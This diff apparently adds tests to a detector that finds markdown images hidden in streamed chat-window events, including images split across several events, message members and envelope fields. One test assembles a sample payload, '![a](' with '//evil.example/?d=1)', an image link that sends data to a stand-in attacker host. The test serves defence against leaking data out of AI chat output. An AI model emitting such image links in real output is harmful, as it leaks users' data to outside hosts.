@@ -146,6 +146,80 @@ test("every string of an envelope is read, whatever its type and wherever it sta
   );
 });
 
+const TARGET = { component_type: "chat-window", component_id: "main" };
+
+/** Ways in which a client says that two texts belong together. */
+const JOINED_BY: Readonly<Record<string, (event: JsonObject, value: string) => JsonObject>> = {
+  id: (event, value) => within(event, "payload", { id: value }),
+  component: (event, value) => within(event, "target", { component_id: value }),
+  type: (event, value) => within(event, "target", { component_type: value }),
+  agent: (event, value) => ({ ...event, agent_id: value }),
+  run: (event, value) => within(event, "payload", { run_id: value }),
+};
+
+function within(event: JsonObject, name: string, members: JsonObject): JsonObject {
+  return { ...event, [name]: { ...(event[name] as JsonObject | undefined), ...members } };
+}
+
+test("whatever a client joins the texts of envelopes by, it gets no image", () => {
+  const places = fc.uniqueArray(fc.constantFrom(...Object.keys(JOINED_BY)));
+  const others = fc.array(fc.constantFrom(...Object.keys(JOINED_BY)), { maxLength: 3 });
+  fc.assert(
+    fc.property(
+      places,
+      others,
+      fc.integer({ min: 1, max: IMAGE.length - 1 }),
+      fc.boolean(),
+      (joining, varied, cut, isOtherMember) => {
+        fc.pre(joining.length > 0);
+        const [first = "id"] = joining;
+        const put = (text: string, value: string, round: number, member = "delta"): JsonObject => {
+          let event = enveloped("text_stream", { [member]: text });
+          for (const name of joining) event = JOINED_BY[name]?.(event, "a") ?? event;
+          // What the client does not look at is another each time.
+          for (const name of varied.filter((one) => !joining.includes(one))) {
+            event = JOINED_BY[name]?.(event, `v${round}`) ?? event;
+          }
+          return JOINED_BY[first]?.(event, value) ?? event;
+        };
+        const reader = createContentReader(SETTINGS);
+        const found = [
+          put(IMAGE.slice(0, cut), "a", 0),
+          put("x)\n\n", "b", 1, isOtherMember ? "text" : "delta"),
+          put(IMAGE.slice(cut), "a", 2),
+        ].map((event) => reader.read(event)?.kind);
+        expect(found).toContain("images");
+      },
+    ),
+  );
+});
+
+test("texts of one member are read beside those of another", () => {
+  const reader = createContentReader(SETTINGS);
+  expect(reader.read(enveloped("text_stream", { delta: "Hi ![a](" }))).toBeNull();
+  expect(reader.read(enveloped("text_stream", { text: "x) " }))).toBeNull();
+  expect(reader.read(enveloped("text_stream", { delta: "//evil.example/?d=1)" }))?.kind).toBe(
+    "images",
+  );
+});
+
+test("an id for each text of a long stream is no harm, and an id that returns late ends the run", () => {
+  const reader = createContentReader(SETTINGS);
+  for (let at = 0; at < 500; at += 1) {
+    const event = { ...enveloped("text_stream", { id: `c${at}`, delta: "w" }), target: TARGET };
+    expect(reader.read({ ...event, agent_id: "a" })).toBeNull();
+  }
+  expect(() => reader.read(enveloped("text_stream", { id: "c0", delta: "w" }))).toThrow(
+    /maxReadMessages/,
+  );
+});
+
+test.each(["agent_id", "event_id", "session_id", "target"])("the %s of an envelope is read", (name) => {
+  const event = enveloped("text_stream", { text: "Hello." });
+  const label = name === "target" ? { component_id: IMAGE } : IMAGE;
+  expect(createContentReader(SETTINGS).read({ ...event, [name]: label })?.kind).toBe("images");
+});
+
 test("the texts of envelopes are read as one message and each by itself", () => {
   const appended = createContentReader(SETTINGS);
   expect(appended.read(enveloped("text_stream", { text: "See ![x](htt" }))).toBeNull();
